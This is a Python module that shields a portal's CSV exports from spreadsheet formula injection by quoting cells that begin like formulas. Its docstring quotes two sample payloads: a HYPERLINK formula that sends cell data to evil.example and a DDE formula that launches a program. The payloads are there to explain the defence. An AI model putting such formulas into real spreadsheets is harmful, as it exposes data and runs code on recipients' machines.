"""Cells a spreadsheet will not run: the one guard against formula injection in every export.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?x="&A1,"click")` sends a neighbouring cell away, `=cmd|' /C
calc'!A0` runs a program), and a tab or carriage return in front of one of them is skipped first.
OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection): prefix such a cell with a
single quote, which every spreadsheet shows as text; the csv module already quotes the field and
doubles embedded quotes.

Every CSV the portal writes goes through `writer` (or `safe_cell` for a row that another library
writes, such as django-import-export's CSV and XLSX); imports call `unsafe_cell` so that an exported
file reads back unchanged. `tests/test_spreadsheet_exports.py` checks each export and that no module
writes CSV past this one.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value` with a leading `'` when it is text that starts like a formula; other values unchanged
    (a number stays a number: -3 is not a formula to any spreadsheet)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unsafe_cell(value):
    """Undo `safe_cell` on imported text ("'=1+1" back to "=1+1"); anything else unchanged."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeWriter:
    """csv.writer whose every cell has passed `safe_cell`; writerow returns what the handle's write
    returned (so a streaming response can write to an object whose write returns its argument)."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(handle, **options):
    """A csv.writer (same options) that neutralises formulas in every cell it writes."""
    return SafeWriter(handle, **options)


class Echo:
    """A file-like object whose write returns the line, for StreamingHttpResponse (Django's docs)."""

    def write(self, value):
        return value


def streamed_rows(rows, **options):
    """CSV lines of `rows`, each cell neutralised, one string per row, for a StreamingHttpResponse."""
    csv_writer = writer(Echo(), **options)
    return (csv_writer.writerow(row) for row in rows)
